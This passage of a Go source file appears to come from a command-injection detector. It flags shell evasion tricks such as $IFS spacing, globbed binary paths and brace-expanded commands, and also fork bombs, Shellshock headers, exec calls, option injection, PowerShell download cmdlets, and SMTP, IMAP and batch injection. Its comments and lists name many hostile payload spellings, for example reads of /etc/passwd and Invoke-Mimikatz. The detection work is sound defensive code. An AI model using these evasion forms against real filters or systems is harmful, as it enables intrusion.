			obf = true
			continue
		case c == '$' && j+2 < len(v) && (v[j+1] == '\'' || v[j+1] == '"') && isCmdByte(v[j+2]):
			// $'who'ami, $"whoami": ANSI-C and locale quoting, quotes all the same
			j++
			obf = true
			continue
		case c == '$':
			k, isIFS := skipExpansion(v, j)
			if isIFS || k == j {
				break
			}
			if exps == 0 {
				expName = expansionName(v[j:k])
			}
			exps++
			if n > 0 && k < len(v) && isCmdByte(v[k]) {
				obf = true
			}
			j = k
			continue
		}
		break
	}
	w := cmdWord{word: buf[:n], end: j, obf: obf && n > 0}
	if n == 0 && exps > 0 {
		w.exp, w.expName = true, expName
	}
	return w
}

// expansionName returns the variable name of an expansion: "$a" -> "a", "${SHELL}" ->
// "SHELL", "$@" -> "@".
func expansionName(e string) string {
	e = strings.TrimPrefix(e, "$")
	e = strings.TrimPrefix(e, "{")
	e = strings.TrimSuffix(e, "}")
	return e
}

// isCmdByte reports bytes that make up command names.
func isCmdByte(c byte) bool { return isAlnum(c) || c == '-' || c == '_' || c == '.' || c == '+' }

// skipExpansion skips the shell expansion starting at v[i] == '$' that expands to nothing
// useful inside a word ($@ $* $! $? $- $_ $$ $1 ${x} $x), returning the index after it.
// isIFS reports ${IFS} or $IFS, which expand to a space.
func skipExpansion(v string, i int) (end int, isIFS bool) {
	j := i + 1
	if j >= len(v) {
		return i, false
	}
	switch c := v[j]; {
	case c == '{':
		k := strings.IndexByte(v[j:min(len(v), j+33)], '}')
		if k < 0 {
			return i, false
		}
		return j + k + 1, hasPrefixFold(v[j+1:], "ifs}")
	case c == '@' || c == '*' || c == '!' || c == '?' || c == '-' || c == '$' || isDigit(c):
		return j + 1, false
	case isAlpha(c) || c == '_':
		k := j
		for k < len(v) && isIdent(v[k]) && k-j < 16 {
			k++
		}
		return k, k-j == 3 && hasPrefixFold(v[j:], "ifs")
	}
	return i, false
}

// paramExpansion matches bash parameter expansion with the operators evasions use to
// build a character or a word: ${PATH:0:1}, ${HOME:0:1}, ${x#prefix}, ${x%suffix},
// ${x//a/b}, ${x^^}. "${name}" templates and "${PORT:-8080}" defaults pass.
func paramExpansion(v string, i int) (string, bool) {
	if i+2 >= len(v) || v[i+1] != '{' {
		return "", false
	}
	j := i + 2
	start := j
	for j < len(v) && isIdent(v[j]) {
		j++
	}
	if j == start || j >= len(v) || !isAlpha(v[start]) && v[start] != '_' {
		return "", false
	}
	close := strings.IndexByte(v[j:min(len(v), j+41)], '}')
	if close < 0 {
		return "", false
	}
	for k := j; k < j+close; k++ {
		if c := v[k]; !isIdent(c) && strings.IndexByte(":#%/^,*?.-@[]", c) < 0 {
			return "", false
		}
	}
	switch op := v[j]; {
	case op == ':' && j+1 < len(v) && isDigit(v[j+1]):
	case op == '#' || op == '%' || op == '^' || op == ',':
	case op == '/' && j+1 < len(v) && v[j+1] == '/':
	case op == '@' && j+1 < len(v) && isAlpha(v[j+1]) && close == 2:
	default:
		return "", false
	}
	return around(v, i, j+close+1), true
}

// globBinDir reports a path whose leading elements are globs that can stand for a
// binary directory: /???/??t, /b?n/c?t, /bi[n]/bash, /usr/[a-z]in/bash.
func globBinDir(path string) bool {
	if len(path) < 4 || path[0] != '/' || !strings.ContainsAny(path, "?*[") {
		return false
	}
	elems := path[1:]
	var parts [4]string
	n := 0
	for n < len(parts) {
		k := strings.IndexByte(elems, '/')
		if k < 0 {
			break
		}
		parts[n] = elems[:k]
		elems = elems[k+1:]
		n++
	}
	if elems == "" || n == 0 {
		return false // a directory alone, no binary in it
	}
	for _, dir := range binDirs {
		d := strings.Split(strings.Trim(dir, "/"), "/")
		if len(d) != n {
			continue
		}
		ok, glob := true, false
		for k := 0; k < n; k++ {
			if strings.ContainsAny(parts[k], "?*[") {
				glob = true
			}
			if !globFits(parts[k], d[k]) {
				ok = false
				break
			}
		}
		if ok && glob {
			return true
		}
	}
	return false
}

// globFits reports whether the shell glob g (?, * and [..] only) can match name.
func globFits(g, name string) bool {
	if g == "" {
		return name == ""
	}
	switch g[0] {
	case '*':
		for k := 0; k <= len(name); k++ {
			if globFits(g[1:], name[k:]) {
				return true
			}
		}
		return false
	case '?':
		return name != "" && globFits(g[1:], name[1:])
	case '[':
		end := strings.IndexByte(g, ']')
		if end < 0 || name == "" {
			return false
		}
		return globClass(g[1:end], name[0]) && globFits(g[end+1:], name[1:])
	}
	return name != "" && lowerASCII(g[0]) == name[0] && globFits(g[1:], name[1:])
}

// globClass reports whether the lower-case byte c is in the bracket expression class
// (without brackets), ignoring ASCII case: letters, ranges a-z, and a leading ! or ^
// negation. traversal.go's path globs use it too.
func globClass(class string, c byte) bool {
	neg := class != "" && (class[0] == '!' || class[0] == '^')
	if neg {
		class = class[1:]
	}
	in := false
	for k := 0; k < len(class); k++ {
		if k+2 < len(class) && class[k+1] == '-' {
			if lowerASCII(class[k]) <= c && c <= lowerASCII(class[k+2]) {
				in = true
			}
			k += 2
			continue
		}
		if lowerASCII(class[k]) == c {
			in = true
		}
	}
	return in != neg
}

// Kinds of what follows a command word.
const (
	argNone     = iota // a plain word or nothing telling
	argEnd             // end of the value (or of a substitution)
	argSep             // another separator: the command stands alone
	argFlag            // -x, --long, +x, /x for Windows commands
	argPath            // /abs/path, ~/x, ./x, ../x, C:\x, \\server, %VAR%
	argRedirect        // > < >> <<<
	argVar             // $x `x` a substitution
	argNet             // a host, IP address or URL
	argNum             // a number
	argComment         // # comment
)

// shellArg classifies what follows the command word ending at v[end].
func (s *cmdScan) shellArg(end int, class uint16) int {
	v := s.v
	i := end
	for i < len(v) {
		if v[i] == '\n' || v[i] == '\r' {
			return argSep // a line break ends the command, as ';' does: "whoami\nid"
		}
		if isSpace(v[i]) || s.plus && v[i] == '+' {
			i++
			continue
		}
		if v[i] == '$' {
			if k, ifs := skipExpansion(v, i); ifs {
				i = k
				continue
			}
		}
		break
	}
	if i >= len(v) {
		return argEnd
	}
	if i == end && !(v[i] == ';' || v[i] == '|' || v[i] == '&' || v[i] == '`' || v[i] == ')' || v[i] == '<' || v[i] == '>' || v[i] == '\n' || v[i] == '\r' || v[i] == '\\' || v[i] == '/' && i+1 < len(v) && v[i+1] == '/') {
		// Glued to the word and not a separator: "time." or "id=5".
		if end > 0 && v[i] != '$' && !(class&cmdWin != 0 && v[i] == '/') {
			return argNone
		}
	}
	c := v[i]
	next := byte(0)
	if i+1 < len(v) {
		next = v[i+1]
	}
	switch c {
	case ';', '|', '&', '`', ')', '\n', '\r', '}':
		return argSep
	case '/':
		if i == end && next == '/' && (i+2 == len(v) || isSpace(v[i+2])) {
			return argComment // "id//": the comment of the code a value was spliced into
		}
	}
	switch c {
	case '#':
		if i > end {
			return argComment
		}
	case '>', '<':
		return argRedirect
	case '$':
		if next == '(' || next == '{' || isAlpha(next) || next == '_' {
			return argVar
		}
	case '-':
		if isAlpha(next) || next == '-' && i+2 < len(v) && isAlpha(v[i+2]) {
			return argFlag
		}
		if next == ' ' || next == 0 {
			return argFlag // "cat -": standard input
		}
	case '+':
		if isAlpha(next) {
			return argFlag
		}
	case '/':
		if class&cmdWin != 0 && (isAlpha(next) || next == '?') && (i+2 >= len(v) || !isAlnum(v[i+2]) || isAlpha(v[i+2]) && i+3 < len(v) && v[i+3] == ' ') {
			return argFlag // dir /s, ipconfig /all is handled as a path too
		}
		if isAlnum(next) || next == '.' || next == '?' || next == '*' || next == '[' || next == '$' || next == '\'' || next == '"' || next == '\\' {
			return argPath
		}
		if next == ' ' || next == 0 || next == ';' {
			return argPath // cd /
		}
	case '\\':
		if (next == 'n' || next == 'r') && (i+2 == len(v) || !isAlnum(v[i+2])) {
			return argSep // a "\n" written as text
		}
		if isAlnum(next) || next == '\\' || next == '.' || next == '$' {
			return argPath
		}
	case '~':
		return argPath
	case '.':
		if next == '/' || next == '.' && i+2 < len(v) && v[i+2] == '/' {
			return argPath
		}
	case '%':
		if j := strings.IndexByte(v[i+1:], '%'); j > 0 && j < 32 {
			return argPath
		}
	case '\'', '"':
		// A quoted argument that holds a path or variable is shell-like.
		if i+1 < len(v) && (next == '/' || next == '$' || next == '-') {
			return argPath
		}
	}
	if isAlpha(c) && next == ':' && i+2 < len(v) && (v[i+2] == '\\' || v[i+2] == '/') {
		return argPath // C:\Windows
	}
	if isDigit(c) {
		j := i
		dots := 0
		for j < len(v) && (isDigit(v[j]) || v[j] == '.') {
			if v[j] == '.' {
				dots++
			}
			j++
		}
		if dots == 3 {
			return argNet
		}
		if j < len(v) && isSpace(v[j]) && unitWord(v, j) {
			return argNone // "sleep 8 hours", "ping 3 times": a quantity in prose
		}
		if j == len(v) || isSpace(v[j]) || v[j] == ';' || v[j] == '&' || v[j] == '|' || v[j] == '`' || s.plus && v[j] == '+' ||
			v[j] == '\\' && j+1 < len(v) && (v[j+1] == 'n' || v[j+1] == 'r') { // "sleep 5\n", a line break written as text
			return argNum
		}
	}
	if class&cmdNet != 0 && isAlnum(c) {
		// A host name with a dot, or a URL.
		j := i
		dot := false
		for j < len(v) && (isAlnum(v[j]) || v[j] == '.' || v[j] == '-' || v[j] == ':' || v[j] == '/') {
			if v[j] == '.' && j+1 < len(v) && isAlpha(v[j+1]) {
				dot = true
			}
			j++
		}
		if dot || hasPrefixFold(v[i:], "http://") || hasPrefixFold(v[i:], "https://") {
			return argNet
		}
	}
	return argNone
}

// cmdFlagRun reports whether the flag at v[i] reads as options rather than prose: a
// short run of letters after one dash ("-la", "-an", "-rf"), a long option
// ("--version"), or a Windows switch ("/s"); "time -the" and "sort -name" are prose or
// data.
func cmdFlagRun(v string, i int, class uint16) bool {
	if i+1 >= len(v) {
		return false
	}
	if v[i] == '+' {
		return isAlpha(v[i+1])
	}
	if v[i] == '/' && class&cmdWin != 0 {
		return isAlpha(v[i+1]) || v[i+1] == '?'
	}
	if v[i] != '-' {
		return false
	}
	j := i + 1
	long := v[j] == '-'
	if long {
		j++
	}
	if j >= len(v) || !isAlpha(v[j]) {
		return false
	}
	k := j
	for k < len(v) && (isAlnum(v[k]) || long && (v[k] == '-' || v[k] == '=')) {
		k++
	}
	if k < len(v) && !isSpace(v[k]) && v[k] != ';' && v[k] != '|' && v[k] != '&' && v[k] != '`' && v[k] != ')' && v[k] != ':' && v[k] != '+' {
		return false
	}
	return long || k-j <= 4
}

// interpFlag reports an interpreter flag that runs code at v[i]: -c, -e, -r, -E, -i,
// -Command.
func interpFlag(v string, i int) bool {
	if i+1 >= len(v) || v[i] != '-' {
		return false
	}
	f := v[i+1:]
	for _, opt := range []string{"c ", "e ", "r ", "i", "command", "enc", "nop", "w hidden", "exec"} {
		if hasPrefixFold(f, opt) {
			return true
		}
	}
	return len(f) == 1
}

// Subcommands of Windows tools that read or change accounts, shares, services and the
// firewall.
var (
	netSubs   = []string{"user", "users", "localgroup", "group", "view", "share", "use", "start", "stop", "session", "accounts", "config"}
	netshSubs = []string{"firewall", "advfirewall", "interface", "wlan", "winhttp", "http", "portproxy", "routing", "wfp"}
)

// netArgs reports whether the net subcommand at v[i] stands alone or takes the switches
// or paths of the real command (net user x /add, net use \\host): not "net user growth".
func netArgs(v string, i int) bool {
	for i < len(v) && isAlpha(v[i]) {
		i++
	}
	rest := v[i:]
	if k := strings.IndexAny(rest, ";|&\n"); k >= 0 {
		rest = rest[:k]
	}
	rest = strings.TrimSpace(rest)
	return rest == "" || strings.Contains(rest, " /") || strings.HasPrefix(rest, "/") || strings.Contains(rest, `\\`) ||
		hasPrefixFold(rest, "administrators") || strings.Count(rest, " ") == 1 && !isLowerWord(rest)
}

// isLowerWord reports two lower-case words of letters: prose, not "hacker P@ss1".
func isLowerWord(s string) bool {
	for i := 0; i < len(s); i++ {
		if c := s[i]; c != ' ' && !('a' <= c && c <= 'z') {
			return false
		}
	}
	return true
}

// subcommand reports whether one of subs stands as a word at v[i].
func subcommand(v string, i int, subs []string) bool {
	for _, sub := range subs {
		if wordAt(v, i, sub) {
			return true
		}
	}
	return false
}

// regCommand reports "reg add|delete|query|save|export|import|load|copy" followed by a
// registry hive: reg add "HKLM\System\..." /v ...
func regCommand(v string, i int) bool {
	if !subcommand(v, i, []string{"add", "delete", "query", "save", "export", "import", "load", "copy", "restore"}) {
		return false
	}
	k := i
	for k < len(v) && isAlpha(v[k]) {
		k++
	}
	k = skipSpaces(v, k)
	if k < len(v) && v[k] == '"' {
		k++
	}
	return hasPrefixFold(v[k:], "hk")
}

// aliasDef matches "alias name=value" and "alias -p name=value": defining an alias is a
// shell statement wherever it stands.
func aliasDef(v string, i, end int, s *cmdScan) (string, bool) {
	k := s.skipSpaces(end)
	if k == end {
		return "", false
	}
	for k < len(v) && (v[k] == '-' || v[k] == '+') {
		for k < len(v) && !isSpace(v[k]) && !(s.plus && v[k] == '+' && k > 0 && v[k-1] != ' ') {
			k++
		}
		k = s.skipSpaces(k)
	}
	start := k
	for k < len(v) && !isSpace(v[k]) && v[k] != '=' {
		k++
	}
	if k > start && k+1 < len(v) && v[k] == '=' && !isSpace(v[k+1]) {
		return v[i:k], true
	}
	return "", false
}

// shellshock matches the "() {" function definition that Shellshock payloads start with,
// when no identifier names the function (so "myfunction() {" and "function () {" pass).
func shellshock(v string, i int) (string, bool) {
	j := skipSpaces(v, i+1)
	if j >= len(v) || v[j] != ')' {
		return "", false
	}
	j = skipSpaces(v, j+1)
	if j >= len(v) || v[j] != '{' {
		return "", false
	}
	k := i - 1
	for k >= 0 && isSpace(v[k]) {
		k--
	}
	if k >= 0 && (isIdent(v[k]) || v[k] == '$' || v[k] == ']') {
		return "", false
	}
	return around(v, i, j+1), true
}

// forkBomb matches a shell function that pipes into itself in the background:
// ":(){ :|:& };:", "f(){ f|f& };f".
func forkBomb(v string, i int) (string, bool) {
	if i+1 >= len(v) || v[i+1] != ')' {
		return "", false
	}
	k := i
	for k > 0 && (isIdent(v[k-1]) || v[k-1] == ':') {
		k--
	}
	name := v[k:i]
	if name == "" || len(name) > 16 {
		return "", false
	}
	j := skipSpaces(v, i+2)
	if j >= len(v) || v[j] != '{' {
		return "", false
	}
	body := v[j+1:]
	if e := strings.IndexByte(body, '}'); e >= 0 {
		body = body[:e]
	} else {
		return "", false
	}
	// The body calls the function twice, one call in the background or piped.
	if !strings.ContainsAny(body, "|&") || strings.Count(body, name) < 2 {
		return "", false
	}
	for off := 0; off < len(body); {
		p := strings.Index(body[off:], name)
		if p < 0 {
			break
		}
		p += off
		if p > 0 && isIdent(body[p-1]) || p+len(name) < len(body) && isIdent(body[p+len(name)]) {
			return "", false // the name inside a longer word: not a call
		}
		off = p + len(name)
	}
	return around(v, k, j+1), true
}

// braceCommand matches bash brace expansion that spells a command line: {cat,/etc/passwd},
// {ls,-la}, {,ifconfig}, {id,}, {l,-lh}s. A field list such as {id,name} passes: the
// command needs a flag or path element, or an empty element that only evasion writes.
func (s *cmdScan) braceCommand(i int) (string, bool) {
	v := s.v
	end := strings.IndexByte(v[i:min(len(v), i+129)], '}')
	if end < 0 {
		return "", false
	}
	body := v[i+1 : i+end]
	if strings.IndexByte(body, ',') < 0 || strings.ContainsAny(body, " {\n") {
		return "", false
	}
	// The first non-empty element, with what is glued after the closing brace.
	first := ""
	empty, shelly, num := false, false, false
	rest := body
	for rest != "" || first == "" {
		k := strings.IndexByte(rest, ',')
		el := rest
		if k >= 0 {
			el, rest = rest[:k], rest[k+1:]
		} else {
			rest = ""
		}
		switch {
		case el == "":
			empty = true
		case first == "":
			first = el
		case el[0] == '-' || el[0] == '/' || el[0] == '$' || el[0] == '.' || el[0] == '~':
			shelly = true
		case allDigits(el):
			num = true
		}
		if k < 0 {
			break
		}
	}
	if body[len(body)-1] == ',' {
		empty = true
	}
	if num && !shelly {
		// {sleep,5}, {ping,-n,5}: a number is the argument of a timing probe
		var buf [24]byte
		w, n := lowerWord(buf[:], first, 0, isCmdByte)
		shelly = n == len(first) && cmdTable[string(w)]&cmdNum != 0
	}
	if first == "" || !empty && !shelly {
		return "", false
	}
	suffix := v[i+end+1:]
	n := 0
	for n < len(suffix) && isCmdByte(suffix[n]) {
		n++
	}
	sub := cmdScan{v: first + suffix[:n]}
	if len(sub.v) > 40 {
		return "", false
	}
	var buf [40]byte
	w := sub.readCmdWord(buf[:], 0)
	if w.binPath || len(w.word) > 0 && cmdTable[string(w.word)] != 0 {
		return around(v, i, i+end+1), true
	}
	return "", false
}

// execFuncs are functions of PHP, Python, Perl and Node.js that hand a string to a shell.
var execFuncs = []string{"system", "exec", "shell_exec", "passthru", "popen", "proc_open", "pcntl_exec", "execsync", "spawnsync", "check_output", "getoutput", "getstatusoutput"}

// execCall matches a call of a shell-exec function whose string argument starts with a
// command: system('id'), shell_exec("cat /etc/passwd"), os.popen('ls').
func (s *cmdScan) execCall(i int) (string, bool) {
	v := s.v
	if i == 0 || strings.IndexByte("mcuntMCUNT", v[i-1]) < 0 {
		return "", false // the last letter of every name in execFuncs
	}
	k := i
	for k > 0 && isIdent(v[k-1]) {
		k--
	}
	if i-k < 4 || i-k > 16 {
		return "", false
	}
	name := v[k:i]
	found := false
	for _, f := range execFuncs {
		if strings.EqualFold(name, f) {
			found = true
			break
		}
	}
	if !found {
		return "", false
	}
	j := skipSpaces(v, i+1)
	if j >= len(v) || v[j] != '\'' && v[j] != '"' && v[j] != '`' {
		return "", false
	}
	q := v[j]
	e := strings.IndexByte(v[j+1:], q)
	if e < 0 {
		e = len(v) - j - 1
	}
	sub := cmdScan{v: v[j+1 : j+1+e], sepCap: posStrong}
	sub.plus = false
	if f, ok := sub.cmdAt(skipSpaces(sub.v, 0), posSubst, false, 0); ok {
		return around(v, k, j+1+len(f)), true
	}
	return "", false
}

// cmdOptionInjection matches options that make a program run a command: ssh's
// -oProxyCommand=, git's --upload-pack= / --open-files-in-pager=, tar's
// --checkpoint-action=exec= / --to-command= (file names that start with dashes, for a
// "tar cf x *" in a directory), and the compiler driver's -wrapper sh,-c,...
func cmdOptionInjection(v string, i int) (string, bool) {
	if i > 0 && isIdent(v[i-1]) {
		return "", false
	}
	for _, opt := range []string{"-oproxycommand", "--upload-pack=", "--open-files-in-pager=", "--receive-pack=", "--checkpoint-action=exec", "--to-command="} {
		if hasPrefixFold(v[i:], opt) {
			return around(v, i, i+len(opt)), true
		}
	}
	if hasPrefixFold(v[i:], "-wrapper") {
		j := skipSpaces(v, i+8)
		k := j
		for k < len(v) && isAlpha(v[k]) {
			k++
		}
		if k < len(v) && v[k] == ',' && cmdTable[strings.ToLower(v[j:k])]&(cmdShell|cmdInterp) != 0 {
			return around(v, i, k+1), true
		}
	}
	return "", false
}

// mailVerbs are SMTP and POP3 commands with the argument shape that makes them
// unmistakable after an injected line break.
var mailVerbs = []struct {
	verb string
	arg  byte // ':' address, 'd' digits, 'h' host, 'w' word
}{
	{"mail from:", 0}, {"rcpt to:", 0}, {"ehlo ", 'h'}, {"helo ", 'h'}, {"retr ", 'd'},
	{"dele ", 'd'}, {"top ", 'D'}, {"apop ", 'w'}, {"auth ", 'a'}, {"list ", 'd'},
}

// authResponse reports an SMTP or POP3 AUTH line's rest that is a mechanism name and
// an initial response in base64 ("X-MECH dGVzdDp0ZXN0"): one word of letters, digits
// and '-', then one base64 token of twelve bytes or more, and nothing else.
func authResponse(l string) bool {
	sp := strings.IndexByte(l, ' ')
	if sp <= 0 {
		return false
	}
	for i := 0; i < sp; i++ {
		if !isAlnum(l[i]) && l[i] != '-' && l[i] != '_' {
			return false
		}
	}
	tok := strings.TrimRight(l[sp+1:], " \r")
	if len(tok) < 12 {
		return false
	}
	for i := 0; i < len(tok); i++ {
		if c := tok[i]; !isAlnum(c) && c != '+' && c != '/' && c != '=' {
			return false
		}
	}
	return true
}

// imapVerbs follow a tag ("a001 ") in IMAP.
var imapVerbs = []string{"append", "authenticate", "login", "logout", "select", "examine", "status", "fetch", "store", "uid", "copy", "expunge", "capability", "list", "lsub", "create", "delete", "rename"}

// mailCommand matches a mail protocol command at the start of the line at v[i]: mail
// header and command injection into a form that sends mail.
func mailCommand(v string, i int) (string, bool) {
	i = skipSpaces(v, i)
	for _, m := range mailVerbs {
		if !hasPrefixFold(v[i:], m.verb) {
			continue
		}
		j := i + len(m.verb)
		j2 := skipSpaces(v, j)
		if j2 >= len(v) {
			return "", false
		}
		ok := false
		switch m.arg {
		case 0:
			ok = v[j2] == '<' || strings.IndexByte(v[j2:], '@') > 0
		case 'h':
			ok = isAlnum(v[j2]) && strings.IndexByte(lineOf(v[j2:]), '.') > 0 && strings.IndexByte(lineOf(v[j2:]), ' ') < 0
		case 'd':
			ok = isDigit(v[j2]) && allDigits(lineOf(v[j2:]))
		case 'D':
			l := lineOf(v[j2:])
			sp := strings.IndexByte(l, ' ')
			ok = sp > 0 && allDigits(l[:sp]) && allDigits(strings.TrimSpace(l[sp+1:]))
		case 'w':
			l := lineOf(v[j2:])
			sp := strings.IndexByte(l, ' ')
			ok = sp > 0 && len(strings.TrimSpace(l[sp+1:])) == 32
		case 'a':
			ok = hasPrefixFold(v[j2:], "plain") || hasPrefixFold(v[j2:], "login") || hasPrefixFold(v[j2:], "cram-md5") || hasPrefixFold(v[j2:], "xoauth") || authResponse(lineOf(v[j2:]))
		}
		if ok {
			return around(v, i, j2), true
		}
		return "", false
	}
	// IMAP: a tag of letters and digits, then a verb.
	j := i
	for j < len(v) && isAlnum(v[j]) {
		j++
	}
	if j-i < 2 || j-i > 8 || j >= len(v) || v[j] != ' ' || !strings.ContainsAny(v[i:j], "0123456789") {
		return "", false
	}
	k := j + 1
	for _, verb := range imapVerbs {
		if wordAt(v, k, verb) && k+len(verb) < len(v) && v[k+len(verb)] == ' ' {
			return around(v, i, k+len(verb)), true
		}
	}
	return "", false
}

func lineOf(s string) string {
	if k := strings.IndexAny(s, "\r\n"); k >= 0 {
		return s[:k]
	}
	return s
}

func allDigits(s string) bool {
	if s == "" {
		return false
	}
	for i := 0; i < len(s); i++ {
		if !isDigit(s[i]) {
			return false
		}
	}
	return true
}

// windowsCommand matches Windows-only constructs anywhere in v: cmd /c, and PowerShell
// cmdlets that fetch or run code.
func windowsCommand(v string) (string, bool) {
	if strings.IndexByte(v, '/') >= 0 {
		if i := indexFold(v, "%comspec%"); i >= 0 {
			// %COMSPEC% /c: cmd.exe by the variable that names it
			if k := skipSpaces(v, i+9); k > i+9 && k+1 < len(v) && v[k] == '/' && strings.IndexByte("ckCK", v[k+1]) >= 0 && (k+2 == len(v) || !isAlpha(v[k+2])) {
				return around(v, i, k+2), true
			}
		}
		if i := indexWordFold(v, "cmd"); i >= 0 {
			j := i + 3
			if hasPrefixFold(v[j:], ".exe") {
				j += 4
			}
			k := skipSpaces(v, j)
			if k > j && k+1 < len(v) && v[k] == '/' && strings.IndexByte("ckCK", v[k+1]) >= 0 && (k+2 == len(v) || !isAlpha(v[k+2])) {
				return around(v, i, k+2), true
			}
		}
	}
	for d := range byteIndexes(v, '-') {
		// -EncodedCommand, or the verb of a cmdlet before the dash: Invoke-Expression
		k := d
		for k > 0 && isAlpha(v[k-1]) {
			k--
		}
		if k > 0 && isIdent(v[k-1]) {
			continue
		}
		for _, c := range psCmdlets {
			if hasPrefixFold(v[k:], c) && (k+len(c) == len(v) || !isIdent(v[k+len(c)])) {
				return around(v, k, k+len(c)), true
			}
		}
	}
	if strings.IndexByte(v, '(') < 0 {
		return "", false
	}
	if i := indexFold(v, "download"); i >= 0 {
		for _, c := range []string{"downloadstring", "downloadfile", "downloaddata"} {
			if wordAt(v, i, c) {
				return around(v, i, i+len(c)), true
			}
		}
	}
	return "", false
}

// batchStatement matches the batch FOR and IF statements of cmd.exe.
// A statement starts at the start of the value or after a command separator.
func batchStatement(v string) (string, bool) {
	pct := strings.IndexByte(v, '%') >= 0
	for i := 0; i < len(v); i++ {
		if i > 0 {
			switch v[i-1] {
			case '&', '|', ';', '(', '\n', '\r', '@':
			default:
				continue
			}
		}
		k := skipSpaces(v, i)
		if k >= len(v) {
			break
		}
		switch lowerASCII(v[k]) {
		case 'f':
			if pct && wordAt(v, k, "for") {
				if f, ok := batchFor(v, k); ok {
					return f, true
				}
			}
		case 'i':
			if wordAt(v, k, "if") {
				if f, ok := batchIf(v, k); ok {
					return f, true
				}
			}
		}
	}
	return "", false
}

// psCmdlets are PowerShell names that download or run code.
var psCmdlets = []string{
	"invoke-webrequest", "invoke-expression", "invoke-restmethod", "invoke-command",
	"invoke-shellcode", "invoke-mimikatz", "start-process", "new-object", "start-bitstransfer",
	"-encodedcommand", "-executionpolicy", "get-wmiobject", "invoke-wmimethod",
	"set-mppreference", "add-mppreference",
}

// batchFor matches "for [/d|/r|/l|/f [options]] %x in (": the loop variable with its
// percent sign gives it away.
func batchFor(v string, i int) (string, bool) {
	j := skipSpaces(v, i+3)
	for steps := 0; j < len(v) && steps < 6; steps++ {
		switch {
		case v[j] == '/' && j+1 < len(v) && isAlpha(v[j+1]):
			j += 2
		case v[j] == '"':
			k := strings.IndexByte(v[j+1:], '"')
			if k < 0 {
				return "", false
			}
			j += k + 2
		case isAlpha(v[j]) && j+1 < len(v) && v[j+1] == ':':
			// a path after /r
			for j < len(v) && !isSpace(v[j]) {
				j++
			}
		case v[j] == '%':
			k := j + 1
			if k < len(v) && v[k] == '%' {
				k++
			}
			if k >= len(v) || isSpace(v[k]) {
				return "", false
			}
			// %i, %%i, %~ and, in CRS's spelling, %variable
			k++
			for k < len(v) && isIdent(v[k]) && k-j < 24 {
				k++
			}
			k = skipSpaces(v, k)
			if hasPrefixFold(v[k:], "in") {
				k = skipSpaces(v, k+2)
				if k < len(v) && v[k] == '(' {
					return around(v, i, k+1), true
				}
			}
			return "", false
		default:
			return "", false
		}
		j = skipSpaces(v, j)
	}
	return "", false
}

// batchIf matches IF statements of cmd.exe: IF [/I] [NOT] EXIST|DEFINED x cmd,
// IF [NOT] ERRORLEVEL n cmd, IF a==b cmd, IF a EQU|NEQ|LSS|LEQ|GTR|GEQ b cmd.
func batchIf(v string, i int) (string, bool) {
	if i+2 >= len(v) || !isSpace(v[i+2]) && v[i+2] != '/' {
		return "", false
	}
	if strings.IndexByte(v, '{') >= 0 && strings.IndexByte(v, '%') < 0 {
		return "", false // C-like code, not batch
	}
	j := i + 2
	next := func() (string, int) {
		k := skipSpaces(v, j)
		e := k
		for e < len(v) && !isSpace(v[e]) {
			e++
		}
		return v[k:e], e
	}
	tok, e := next()
	batch := false // a batch-only spelling: IF /I, %1, "a"=="b", [a]==[b]
	if hasPrefixFold(tok, "/i") {
		j = e
		tok, e = next()
		batch = true
	}
	if strings.EqualFold(tok, "not") {
		j = e
		tok, e = next()
	}
	switch {
	case strings.EqualFold(tok, "exist") || strings.EqualFold(tok, "defined"):
		j = e
		name, e2 := next()
		if name == "" {
			return "", false
		}
		if name[0] == '"' && !strings.HasSuffix(name, `"`) || name == `"` {
			// a quoted name with spaces
			k := strings.IndexByte(v[skipSpaces(v, j)+1:], '"')
			if k < 0 {
				return "", false
			}
			e2 = skipSpaces(v, j) + 1 + k + 1
		}
		j = e2
		after, _ := next()
		if after == "" {
			return "", false
		}
		var buf [24]byte
		w, _ := lowerWord(buf[:], after, 0, isCmdByte)
		if after[0] == '(' || after[0] == '@' || cmdTable[string(w)] != 0 || strings.EqualFold(after, "goto") {
			return around(v, i, e2), true
		}
	case strings.EqualFold(tok, "errorlevel") || strings.EqualFold(tok, "cmdextversion"):
		j = e
		n, _ := next()
		if n != "" && isDigit(n[0]) {
			return around(v, i, e), true
		}
	default:
		// IF a==b cmd, IF "%x%" GEQ "15" cmd: a comparison, then a command.
		rest := v[j:]
		if k := strings.Index(rest, "=="); k > 0 && (batch || batchOperands(rest, k) || batchThen(v, j+k+2)) {
			return around(v, i, j+k+2), true
		}
		for _, op := range []string{" equ ", " neq ", " lss ", " leq ", " gtr ", " geq "} {
			if k := indexFold(rest, op); k >= 0 && batchThen(v, j+k+len(op)) {
				return around(v, i, j+k+len(op)), true
			}
		}
	}
	return "", false
}

// batchOperands reports the operands of "==" at rest[k] in batch spelling: a %variable,
// or both sides quoted or bracketed.
func batchOperands(rest string, k int) bool {
	l := strings.TrimSpace(rest[:k])
	r := strings.TrimSpace(rest[k+2:])
	if sp := strings.IndexByte(r, ' '); sp >= 0 {
		r = r[:sp]
	}
	if strings.IndexByte(l, '%') >= 0 || strings.IndexByte(r, '%') >= 0 {
		return true
	}
	if l == "" || r == "" {
		return false
	}
	q := func(s string) bool {
		return len(s) >= 2 && (s[0] == '"' && s[len(s)-1] == '"' || s[0] == '[' && s[len(s)-1] == ']' || s[0] == '{' && s[len(s)-1] == '}')
	}
	return q(l[strings.LastIndexByte(l, ' ')+1:]) && q(r)
}

// batchThen reports whether the right operand of an IF comparison starting at i (after
// the operator) is followed by a command: a listed command, echo, set, goto, call, "("
// or "@". "if x == 1: print(x)" is Python.
func batchThen(v string, i int) bool {
	i = skipSpaces(v, i)
	if i < len(v) && v[i] == '"' {
		k := strings.IndexByte(v[i+1:], '"')
		if k < 0 {
			return false
		}
		i += k + 2
	} else {
		for i < len(v) && !isSpace(v[i]) {
			i++
		}
	}
	if i == len(v) || !isSpace(v[i]) {
		return false
	}
	i = skipSpaces(v, i)
	if i >= len(v) {
		return false
	}
	if v[i] == '(' || v[i] == '@' {
		return true
	}
	var buf [24]byte
	w, _ := lowerWord(buf[:], v, i, isCmdByte)
	return cmdTable[string(w)] != 0 || string(w) == "goto" || string(w) == "set" || string(w) == "call"
}
